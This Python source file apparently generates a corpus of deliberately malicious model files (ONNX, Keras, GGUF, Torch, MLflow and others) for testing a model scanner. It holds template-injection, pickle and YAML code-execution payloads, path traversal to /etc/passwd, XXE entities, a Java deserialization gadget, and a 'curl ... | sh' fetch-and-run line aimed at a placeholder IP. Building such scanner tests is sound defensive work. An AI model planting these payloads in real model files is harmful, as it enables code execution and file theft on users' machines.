"""Attack shapes: models whose graph, layers, metadata or side files reach for code, files and machines."""

from __future__ import annotations

import json
import struct
from typing import Any

from judge_kit import (
    Folder,
    as_json,
    blob,
    call,
    field,
    gguf,
    name,
    reduce,
    safetensors,
    tarred,
    torch_zip,
    weights,
    zipped,
)
from second_attacks_base import CODE, ECHO, URL, bad, made_up

BAD = bad(2)
GOOD = b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s."
SSTI = "{{ cycler.__init__.__globals__.os.popen('" + ECHO + "').read() }}"
TENSOR = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}


def constant(value: str) -> bytes:
    """A TensorFlow Const node named after its text."""
    tensor = field(1, 7) + field(2, b"") + field(8, value)
    kind = field(5, field(1, "dtype") + field(2, field(6, 7)))
    return field(1, field(1, "c") + field(2, "Const") + kind + field(5, field(1, "value") + field(2, field(8, tensor))))


def saved_model(op: str, path: str, inside: bool = False, **text: str) -> bytes:
    """A saved_model.pb whose graph (or a function of it) has one operation fed by a constant."""
    attributes = b"".join(field(5, field(1, k) + field(2, field(2, v))) for k, v in text.items())
    node = field(1, "n") + field(2, op) + field(3, "c") + attributes
    graph = constant(path) + field(1, node)
    if inside:
        signature = field(1, field(1, "__inference_call_1"))
        body = field(3, constant(path)[2:]) + field(3, node)
        graph = constant(path) + field(2, field(1, signature + body))
    return field(1, 1) + field(2, field(1, field(4, "serve")) + field(2, graph))


def tensorflow() -> dict[str, Folder]:
    """SavedModels by hand; those with operations that read, write and connect are among the stored files."""
    made: dict[str, Folder] = {}
    made["tensorflow--asset-climbs"] = {
        "model/saved_model.pb": field(1, 1)
        + field(
            2,
            field(1, field(4, "serve"))
            + field(2, constant("x"))
            + field(6, field(1, field(1, "c:0")) + field(2, "../../../../etc/passwd")),
        ),
    }
    made["tensorflow--py-function-hub"] = {
        "hub/variables/variables.index": b"",
        "hub/saved_model.pb": saved_model("PyFunc", "x", True, token="pyfunc_0"),
    }
    return made


def attribute(title: str, **values: Any) -> bytes:
    """An ONNX attribute: text `s` or graph `g`."""
    out = field(1, title)
    if "s" in values:
        out += field(4, values["s"]) + field(20, 3)
    if "g" in values:
        out += field(6, values["g"]) + field(20, 5)
    if "i" in values:
        out += field(3, values["i"]) + field(20, 2)
    return field(5, out)


def onnx_model(graph: bytes, *more: bytes, domain: str = "") -> bytes:
    """An ONNX ModelProto."""
    opset = field(8, field(1, domain) + field(2, 1)) if domain else b""
    return (
        field(1, 8)
        + field(2, "pytorch")
        + field(7, graph + field(2, "g"))
        + field(8, field(1, "") + field(2, 17))
        + opset
        + b"".join(more)
    )


def external(*pairs: tuple[str, str]) -> bytes:
    """A TensorProto whose data is in another file."""
    entries = b"".join(field(13, field(1, k) + field(2, v)) for k, v in pairs)
    return field(1, 4) + field(2, 1) + field(8, "w") + entries + field(14, 1)


def onnx() -> dict[str, Folder]:
    """External data, contexts and domains."""
    relu = field(1, field(1, "x") + field(2, "y") + field(4, "Relu"))
    away = external(("location", "../../../../../etc/passwd"))
    inner = field(1, field(2, "z") + field(4, "Constant") + attribute("value", s="x")) + field(5, away) + field(2, "b")
    branch = field(1, field(1, "c") + field(2, "y") + field(4, "If") + attribute("then_branch", g=inner))
    context = field(
        1,
        field(1, "x")
        + field(2, "y")
        + field(4, "EPContext")
        + field(7, "com.microsoft")
        + attribute("embed_mode", i=0)
        + attribute("ep_cache_context", s="../../../tmp/libpayload.so"),
    )
    sparse = field(15, field(1, away) + field(3, 4))
    twice = external(("location", "weights.bin"), ("location", "/etc/passwd"))
    mixed = external(("location", "data/..//../..//etc/passwd"))
    encoded = external(("location", "file:///etc/passwd"))
    git = external(("location", ".git/config"), ("offset", "0"), ("length", "64"))
    function = field(
        25,
        field(1, "f")
        + field(7, field(2, "z") + field(4, "Constant") + field(5, field(1, "value") + field(5, away) + field(20, 4))),
    )
    bomb = field(1, field(1, "s") + field(2, "y") + field(4, "ConstantOfShape")) + field(
        5, field(1, 2) + field(2, 7) + field(8, "s") + field(9, struct.pack("<qq", 1 << 20, 1 << 20))
    )
    tokens = field(1, field(1, "x") + field(2, "y") + field(4, "PyOp") + field(7, "ai.onnx.contrib"))
    text = (
        'ir_version: 8\ngraph {\n  initializer {\n    dims: 4\n    data_type: 1\n    name: "w"\n'
        '    external_data { key: "location" value: "../../../etc/passwd" }\n'
        '    data_location: EXTERNAL\n  }\n  name: "g"\n}\n'
    )
    return {
        "onnx--external-in-branch": {"model.onnx": onnx_model(branch)},
        "onnx--external-in-sparse": {"model.onnx": onnx_model(relu + sparse)},
        "onnx--external-in-function": {"model.onnx": onnx_model(relu, function)},
        "onnx--external-twice": {"model.onnx": onnx_model(relu + field(5, twice)), "weights.bin": bytes(16)},
        "onnx--external-mixed-slashes": {"model.onnx": onnx_model(relu + field(5, mixed))},
        "onnx--external-file-scheme": {"model.onnx": onnx_model(relu + field(5, encoded))},
        "onnx--external-git-folder": {"model.onnx": onnx_model(relu + field(5, git))},
        "onnx--execution-context": {"model.onnx": onnx_model(context, domain="com.microsoft")},
        "onnx--constant-bomb": {"model.onnx": onnx_model(bomb)},
        "onnx--python-old-name": {"model.onnx": onnx_model(tokens, domain="ai.onnx.contrib")},
        "onnx--text-form": {"model.textproto": text.encode()},
    }


def layer(
    kind: str, config: dict[str, Any], module: str = "keras.layers", known: str | None = None, **more: Any
) -> dict[str, Any]:
    """One serialized Keras object."""
    return {"module": module, "class_name": kind, "config": config, "registered_name": known, **more}


secret = {"class_name": "__lambda__", "config": {"code": "4wAAAAAAAAAAAAAA", "defaults": None, "closure": None}}
dense = layer("Dense", {"name": "d", "units": 1})
system = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
configs: dict[str, Any] = {
    "compile-loss-module": ([dense], {"optimizer": "adam", "loss": system}),
    "compile-metric-lambda": ([dense], {"optimizer": "adam", "loss": "mse", "metrics": [secret]}),
    "optimizer-schedule": (
        [dense],
        {"optimizer": layer("Popen", {"args": ["echo", "assay-second"]}, "subprocess")},
    ),
    "initializer-lambda": ([layer("Dense", {"name": "d", "units": 1, "kernel_initializer": secret})], None),
    "regularizer-module": ([layer("Dense", {"name": "d", "units": 1, "kernel_regularizer": system})], None),
    "bidirectional-lambda": (
        [layer("Bidirectional", {"name": "b", "layer": layer("Lambda", {"name": "l", "function": secret})})],
        None,
    ),
    "pipeline-lambda": (
        [layer("Pipeline", {"name": "p", "layers": [layer("Lambda", {"function": secret})]})],
        None,
    ),
    "tfsm-layer": ([layer("TFSMLayer", {"name": "t", "filepath": "/tmp/payload", "call_endpoint": "serve"})], None),
    "flax-layer": ([layer("FlaxLayer", {"name": "f", "module": "payload.Net"})], None),
    "module-in-folder": ([layer("Net", {"name": "n"}, "payload", "payload>Net")], None),
    "module-shutil": ([layer("rmtree", {"path": "/tmp/assay-second"}, "shutil")], None),
    "module-pickle": ([layer("loads", {"data": "gAJjb3MKc3lzdGVtCi4="}, "pickle")], None),
    "module-keras-private": (
        [layer("get_file", {"fname": "x", "origin": URL}, "keras.src.utils.file_utils")],
        None,
    ),
    "index-lookup-file": ([layer("IntegerLookup", {"name": "i", "vocabulary": "/etc/passwd"})], None),
    "hashing-salt-object": ([layer("Hashing", {"name": "h", "num_bins": 3, "salt": system})], None),
    "dtype-policy-module": (
        [layer("Dense", {"name": "d", "units": 1, "dtype": layer("system", {"command": ECHO}, "os")})],
        None,
    ),
    "build-config-module": ([dict(dense, build_config=system)], None),
    "activation-eval": (
        [
            layer(
                "Activation",
                {
                    "activation": {
                        "module": "builtins",
                        "class_name": "function",
                        "config": "eval",
                        "registered_name": "eval",
                    }
                },
            )
        ],
        None,
    ),
}
meta = as_json({"keras_version": "3.9.2", "date_saved": "2025-03-01@00:00:00"})
node = {"args": [secret], "kwargs": {"function": system}}
config = layer(
    "Functional", {"name": "f", "layers": [dict(dense, inbound_nodes=[node])]}, "keras.src.models.functional"
)
old = {
    "class_name": "Sequential",
    "config": {
        "layers": [
            {
                "class_name": "Lambda",
                "config": {"function": ["4wAA", None, None], "function_type": "lambda", "module": "__main__"},
            }
        ]
    },
}


def keras() -> dict[str, Folder]:
    """Keras v3 archives: objects of other modules in every place that is deserialized."""
    made: dict[str, Folder] = {}
    for key, (layers, compiled) in configs.items():
        config = layer("Sequential", {"name": "m", "layers": layers}, "keras", None)
        if compiled:
            config["compile_config"] = compiled
        archive = {"metadata.json": meta, "config.json": json.dumps(config).encode()}
        made[f"keras--{key}"] = {"model.keras": zipped(archive)}
    made["keras--module-in-folder"]["payload.py"] = f"import os\n\nos.system({ECHO!r})\n".encode()
    made["keras--inbound-node"] = {
        "model.keras": zipped({"metadata.json": meta, "config.json": json.dumps(config).encode()})
    }
    made["keras--to-json-lambda"] = {
        "architecture.json": as_json(old),
        "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(88),
    }
    return made


def ggufs() -> dict[str, Folder]:
    """GGUF files of other versions, byte order and keys."""

    def text(value: str, count: str) -> bytes:
        return struct.pack(count, len(value)) + value.encode()

    key = "tokenizer.chat_template"
    first = b"GGUF" + struct.pack("<III", 1, 0, 1) + text(key, "<I") + struct.pack("<I", 8) + text(SSTI, "<I")
    second = b"GGUF" + struct.pack("<IQQ", 2, 0, 1) + text(key, "<Q") + struct.pack("<I", 8) + text(SSTI, "<Q")
    big = b"GGUF" + struct.pack(">IQQ", 3, 0, 1) + text(key, ">Q") + struct.pack(">I", 8) + text(SSTI, ">Q")
    plain = {"general.architecture": "llama", "general.name": "tiny"}
    overflow = text("w", "<Q") + struct.pack("<IQQQQIQ", 4, 1 << 62, 1 << 62, 1 << 62, 1 << 62, 0, 0)
    dims = text("w", "<Q") + struct.pack("<I", 0xFFFFFFF) + bytes(64)
    return {
        "gguf--version-1-template": {"old.gguf": first},
        "gguf--version-2-template": {"old.gguf": second},
        "gguf--big-endian-template": {"s390x.gguf": big},
        "gguf--template-second-shard": {
            "m-00001-of-00002.gguf": gguf(plain),
            "m-00002-of-00002.gguf": gguf({"split.no": 1, key: SSTI}),
        },
        "gguf--named-tool-template": {
            "m.gguf": gguf(plain | {f"{key}.rag": "{{ lipsum.__globals__['os'].popen('" + ECHO + "') }}"})
        },
        "gguf--dimensions-overflow": {"m.gguf": gguf(plain, overflow + bytes(64), 1)},
        "gguf--dimension-count": {"m.gguf": gguf(plain, dims, 1)},
        "gguf--alignment-zero": {
            "m.gguf": gguf(
                plain | {"general.alignment": 0}, text("w", "<Q") + struct.pack("<IQIQ", 1, 8, 0, 0) + bytes(64), 1
            )
        },
        "gguf--named-bin": {"model.bin": second},
        "gguf--secret": {
            "m.gguf": gguf(plain | {"general.source.url": f"https://user:hf_{made_up('gguf', 34)}@huggingface.co/m"})
        },
    }


script = (
    "op_version_set = 1\nclass M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
    '    _0 = torch.save(x, "/tmp/assay-second")\n    return x\n'
)
flextok = {
    "__metadata__": {"format": "pt", "config": json.dumps({"_target_": "builtins.exec", "_args_": [CODE]})},
    "w": TENSOR,
}
caffe = (
    'name: "n"\nlayer {\n  name: "p"\n  type: "Python"\n  top: "data"\n  python_param {\n'
    '    module: "payload"\n    layer: "Layer"\n    param_str: "x"\n  }\n}\n'
)
payload = f"import os\n\nos.system({ECHO!r})\n".encode()
java = (
    b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02xp"
    b"sr\x00:org.apache.commons.collections.functors.InvokerTransformer"
)
pmml = '<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY % r SYSTEM "' + URL + '.dtd"> %r;]>\n<PMML version="4.4"/>\n'
openvino = (
    '<?xml version="1.0"?>\n<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    '<net name="&x;" version="11"><layers/></net>\n'
)
paddle = b"\x80\x02}" + b"X\x01\x00\x00\x00w" + call("os", "system", ECHO) + b"s."
nested = reduce(name("torch.storage", "_load_from_bytes"), blob(torch_zip(BAD)))
skop = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}, "protocol": 2}
real = {
    "__class__": "system",
    "__module__": "posix",
    "__loader__": "FunctionNode",
    "content": "posix.system",
    "protocol": 2,
}
factory = {
    "__class__": "defaultdict",
    "__module__": "collections",
    "__loader__": "DefaultDictNode",
    "content": {"default_factory": real},
    "protocol": 2,
}
OTHERS_TABLE = {
    "torch--distributed-metadata": {"ckpt/.metadata": BAD, "ckpt/__0_0.distcp": bytes(64)},
    "torch--deepspeed-state": {
        "global_step10/zero_pp_rank_0_mp_rank_00_optim_states.pt": torch_zip(BAD),
        "latest": b"global_step10",
    },
    "torch--accelerate-random-state": {
        "checkpoint/random_states_0.pkl": BAD,
        "checkpoint/model.safetensors": weights(),
    },
    "torch--mobile-bytecode": {"model.ptl": zipped({"m/data.pkl": GOOD, "m/bytecode.pkl": BAD, "m/version": b"3\n"})},
    "torch--script-named-py": {
        "model.pt": zipped(
            {
                "m/data.pkl": GOOD,
                "m/code/__torch__.py": script.encode(),
                "m/constants.pkl": b"\x80\x02).",
                "m/version": b"3\n",
            }
        )
    },
    "torch--exported-constants": {
        "model.pt2": zipped(
            {
                "m/data/constants/model_constants_config.json": b"{}",
                "m/data/constants/custom_obj_0": BAD,
                "m/archive_format": b"pt2",
            }
        )
    },
    "torch--compiled-library": {
        "model.pt2": zipped(
            {
                "m/data/aotinductor/model/c.so": b"\x7fELF\x02\x01\x01" + bytes(57) + b"system\0" + ECHO.encode(),
                "m/archive_format": b"pt2",
            }
        )
    },
    "torch--storage-in-storage": {"model.bin": torch_zip(b"\x80\x02" + nested + b".")},
    "torch--lightning-hyper": {
        "last.ckpt": torch_zip(
            b"\x80\x02}X\x10\x00\x00\x00hyper_parameters"
            + call("subprocess", "Popen", ["echo", "assay-second"])
            + b"s."
        )
    },
    "torch--tar-inside-zip-name": {"model.pth": tarred({"model.pkl": BAD, "weights": bytes(32)})},
    "safetensors--flextok-target": {"model.safetensors": safetensors(flextok, bytes(4))},
    "other--caffe-python-layer": {"deploy.prototxt": caffe.encode(), "payload.py": payload},
    "other--java-serialized": {"model.ser": java},
    "other--weka-model": {"forest.model": java + bytes(40)},
    "other--pmml-parameter-entity": {"model.pmml": pmml.encode()},
    "other--openvino-entity": {"model.xml": openvino.encode(), "model.bin": bytes(16)},
    "other--paddle-parameters": {"model.pdparams": paddle},
    "other--chroma-index": {"chroma/0c/index_metadata.pickle": BAD, "chroma/0c/header.bin": bytes(100)},
    "other--faiss-index": {"index/index.pkl": BAD, "index/index.faiss": b"IxFI" + bytes(60)},
    "other--fastai-export": {"export.pkl": torch_zip(BAD)},
    "other--msgpack-pickle-value": {"state.msgpack": b"\x81\xa4code\xc4" + bytes([len(BAD)]) + BAD},
    "skops--schema-twice": {"model.skops": zipped({"schema.json": as_json(skop), "schema.json#2": as_json(real)})},
    "skops--default-factory": {"model.skops": zipped({"schema.json": as_json(factory)})},
    "skops--named-pkl": {"model.pkl": zipped({"schema.json": as_json(real)})},
    "mlflow--pickled-signature": {
        "m/MLmodel": (
            b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"
            b"  sklearn:\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n"
        ),
        "m/model.pkl": bad(5),
    },
    "mlflow--pyfunc-artifact": {
        "m/MLmodel": (
            b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n"
            b"    python_model: python_model.pkl\n    artifacts:\n      weights:\n"
            b"        path: artifacts/w.joblib\n        uri: file:///etc\n"
        ),
        "m/python_model.pkl": GOOD,
        "m/artifacts/w.joblib": BAD,
    },
    "mlflow--project-command": {
        "MLproject": (
            b'name: churn\nentry_points:\n  main:\n    command: "curl -s http://198.51.100.7/assay-second | sh"\n'
        )
    },
    "mlflow--langchain-yaml": {
        "m/MLmodel": b"flavors:\n  langchain:\n    model_data: model.yaml\n",
        "m/model.yaml": f"!!python/object/apply:os.system ['{ECHO}']\n".encode(),
    },
    "mlflow--torch-pickle-module": {
        "m/MLmodel": b"flavors:\n  pytorch:\n    model_data: data\n",
        "m/data/pickle_module_info.txt": b"payload",
        "m/data/model.pth": torch_zip(GOOD),
        "m/code/payload.py": payload,
    },
}


def others() -> dict[str, Folder]:
    """Torch's side files and formats that few scanners open."""
    return OTHERS_TABLE


def shapes() -> dict[str, Folder]:
    """The models of this part."""
    return tensorflow() | onnx() | keras() | ggufs() | others()
